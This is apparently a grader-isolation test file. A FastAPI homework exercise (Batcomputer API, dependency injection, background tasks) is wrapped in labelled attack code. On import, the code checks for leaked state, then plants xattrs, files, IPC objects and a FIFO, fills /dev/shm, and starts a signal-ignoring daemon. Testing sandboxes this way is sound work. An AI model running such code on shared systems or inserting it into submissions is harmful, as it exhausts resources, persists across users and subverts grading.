"""Attack: leave state on every surface a submission can touch (extended attributes on the roots of its folders, files, a full /dev/shm, System V and POSIX IPC objects, a FIFO, a daemon that ignores signals), so the next student inherits it

honest: 0
base: stub
sequence: twice

Graded twice in a row, then an honest student. Each copy first reports LEAK for anything an earlier
submission left: an extended attribute `user.alfred_attack` on /sandbox, /sandbox/work, /tmp or /dev/shm,
an entry named alfred_attack* in those folders, a System V queue, semaphore or shared memory segment or a
POSIX queue under the attack's keys, or a live process whose command line carries the marker. Then it
plants all of them, fills /dev/shm, and starts the daemon (setsid, double fork, SIGTERM and SIGHUP ignored).

Safety: this file attacks the grader. Grade it only with `alfred grade` (sandboxed); it refuses
to import anywhere but as a sandbox's student user (uid 40000-59999).
"""

# >>> ATTACK
import os as _attack_os

if not 40000 <= _attack_os.getuid() < 60000:  # safety catch: armed only as a sandbox's student user
    raise ImportError("attack corpus file: grade it with `alfred grade` (sandboxed); never import or run it directly")
# <<< ATTACK

import os
import time
from typing import Annotated

from fastapi import BackgroundTasks, Depends, FastAPI, Header, HTTPException
from pydantic import BaseModel, EmailStr

app = FastAPI(title="Batcomputer API", version="7.0")


# --- Lesson 6: Batcomputer protocols (dependency injection) ---

API_KEYS = {"alfred-secret-key": "alfred@wayne.enterprises"}


async def common_parameters(skip: int = 0, limit: int = 10) -> dict[str, int]:
    """Pagination shared by every list endpoint."""
    return {"skip": skip, "limit": limit}


def get_db_session():
    """Hands out a (simulated) database session and always closes it afterwards."""
    session = {"connected": True}
    try:
        yield session
    finally:
        session["connected"] = False


async def get_api_key(x_api_key: Annotated[str | None, Header()] = None) -> str:
    """Requires a known `X-API-Key` header."""
    if x_api_key not in API_KEYS:
        raise HTTPException(status_code=401, detail="Invalid or missing API key")
    return x_api_key


async def verify_key_and_get_user(api_key: Annotated[str, Depends(get_api_key)]) -> dict[str, str]:
    """Chained after `get_api_key`: turns a valid key into its user."""
    return {"email": API_KEYS[api_key]}


GADGETS = ["Batarang", "Grapnel Gun", "Smoke Pellet", "Cryptographic Sequencer", "Batclaw"]


@app.get("/gadgets")
async def list_gadgets(
    page: Annotated[dict[str, int], Depends(common_parameters)],
    db: Annotated[dict, Depends(get_db_session)],
):
    return {"gadgets": GADGETS[page["skip"] : page["skip"] + page["limit"]], "db_connected": db["connected"]}


@app.get("/users/me")
async def read_current_user(user: Annotated[dict[str, str], Depends(verify_key_and_get_user)]):
    return user


# --- Lesson 7: Alfred's duties (background tasks) ---

LOG_DIR = "batcomputer_logs"
LOG_FILE = os.path.join(LOG_DIR, "activity_log.txt")


def log_batcomputer_activity(user_email: str, activity: str = ""):
    """Appends one line about a user's activity to the Batcomputer log, after 2 s of simulated work."""
    log_line = f"User {user_email} activity: {activity}\n"
    print(f"--- BACKGROUND TASK START: Logging activity: '{log_line.strip()}' ---")
    time.sleep(2)
    os.makedirs(LOG_DIR, exist_ok=True)
    # TODO Exercise 4 (stretch): when batcomputer_logs/activity_log.txt does not exist yet, print
    #   --- BACKGROUND TASK: Creating log file ---
    # before the file is opened below; print nothing extra when it is already there. (os.path.exists helps.)
    with open(LOG_FILE, mode="a") as log_file:
        log_file.write(log_line)
    print(f"--- BACKGROUND TASK END: Activity logged to '{LOG_FILE}' for {user_email} ---")


@app.post("/log-activity/{user_email}")
async def log_user_activity(
    user_email: EmailStr,
    background_tasks: BackgroundTasks,
    activity_description: str = "Generic activity logged.",
):
    """Confirms at once; Alfred writes the log line after the response has gone out."""
    background_tasks.add_task(log_batcomputer_activity, user_email, activity=activity_description)
    return {"message": f"Activity logging initiated for {user_email}."}


# --- Homework ---


# TODO Exercise 1 (model): give IntelReportRequest two fields:
#   recipient_email, validated as an email address (pydantic's EmailStr), and
#   report_name, a string that every request must include.
class IntelReportRequest(BaseModel):
    """A request for an intel report: which report, and who receives it."""


# TODO Exercise 2 (task): print a start message naming the report and its recipient, simulate the
# compilation with time.sleep(5), then print an end message naming both again.
def simulate_intel_report_compilation(report_request: IntelReportRequest):
    """Compiles an intel report for its recipient: 5 s of simulated work."""
    raise NotImplementedError("Exercise 2 (task): simulate_intel_report_compilation is not written yet")


# TODO Exercise 3 (endpoint): add the route POST /request-intel-report. It takes the JSON body as an
# IntelReportRequest, injects BackgroundTasks, schedules simulate_intel_report_compilation with the
# report request it received (the object itself), and answers at once with a confirmation message.


# >>> ATTACK
import ctypes as _ctypes
import json as _json
import os as _os
import signal as _signal

_PLACES = ("/sandbox", "/sandbox/work", "/tmp", "/dev/shm")
_KEY = 0xA1F8EE


def _attack_report(**found):
    """Ends the import with what the attack found, so the grade report shows it (the stub scores 0 anyway)."""
    raise RuntimeError("ATTACK-REPORT " + _json.dumps(found, sort_keys=True, default=str)[:1900])


def _look(libc):
    leaks = []
    for place in _PLACES:
        try:
            if "user.alfred_attack" in _os.listxattr(place):
                leaks.append(f"LEAK: an extended attribute on {place}")
        except OSError:
            pass
        try:
            if any(name.startswith("alfred_attack") for name in _os.listdir(place)):
                leaks.append(f"LEAK: files of an earlier student in {place}")
        except OSError:
            pass
    for name, call in (("queue", lambda: libc.msgget(_KEY, 0)), ("semaphore", lambda: libc.semget(_KEY, 1, 0)),
                       ("shared memory", lambda: libc.shmget(_KEY, 4096, 0)),
                       ("POSIX queue", lambda: libc.mq_open(b"/alfred_attack", _os.O_RDONLY, 0, None))):
        if call() >= 0:
            leaks.append(f"LEAK: a {name} of an earlier student")
    for pid in _os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                if b"alfred_attack_daemon" in handle.read() and int(pid) != _os.getpid():
                    leaks.append(f"LEAK: the daemon of an earlier student is alive (pid {pid})")
        except (OSError, ValueError):
            pass
    return leaks


def _plant(libc):
    planted = []
    for place in _PLACES:
        try:
            _os.setxattr(place, "user.alfred_attack", b"left")
            planted.append(f"xattr {place}")
        except OSError:
            pass
        try:
            with open(f"{place}/alfred_attack_left", "w") as handle:
                handle.write("left")
            planted.append(f"file {place}")
        except OSError:
            pass
    try:
        _os.mkfifo("/tmp/alfred_attack_fifo")
    except OSError:
        pass
    filled = 0
    while filled < 15:
        try:
            with open(f"/dev/shm/alfred_attack_fill_{filled}", "wb") as handle:
                handle.write(b"x" * 4_000_000)
            filled += 1
        except OSError:
            break
    planted.append(f"/dev/shm {filled * 4} MB")
    libc.msgget(_KEY, 0o1000 | 0o666)
    libc.semget(_KEY, 1, 0o1000 | 0o666)
    libc.shmget(_KEY, 4096, 0o1000 | 0o666)
    libc.mq_open(b"/alfred_attack", _os.O_CREAT | _os.O_RDWR, 0o666, None)
    if _os.fork() == 0:
        try:
            _os.setsid()
            if _os.fork() == 0:
                for sig in (_signal.SIGTERM, _signal.SIGHUP, _signal.SIGINT):
                    _signal.signal(sig, _signal.SIG_IGN)
                _os.execv("/bin/sh", ["/bin/sh", "-c", "while :; do sleep 1; done; alfred_attack_daemon"])
        finally:
            _os._exit(0)
    return planted


if not _os.path.exists("/tmp/alfred_attack_done"):  # once per submission: every probe imports main.py again
    _libc = _ctypes.CDLL(None, use_errno=True)
    _found = {"leaks": _look(_libc)}
    _found["planted"] = _plant(_libc)
    open("/tmp/alfred_attack_done", "w").close()
    _attack_report(**_found)
# <<< ATTACK
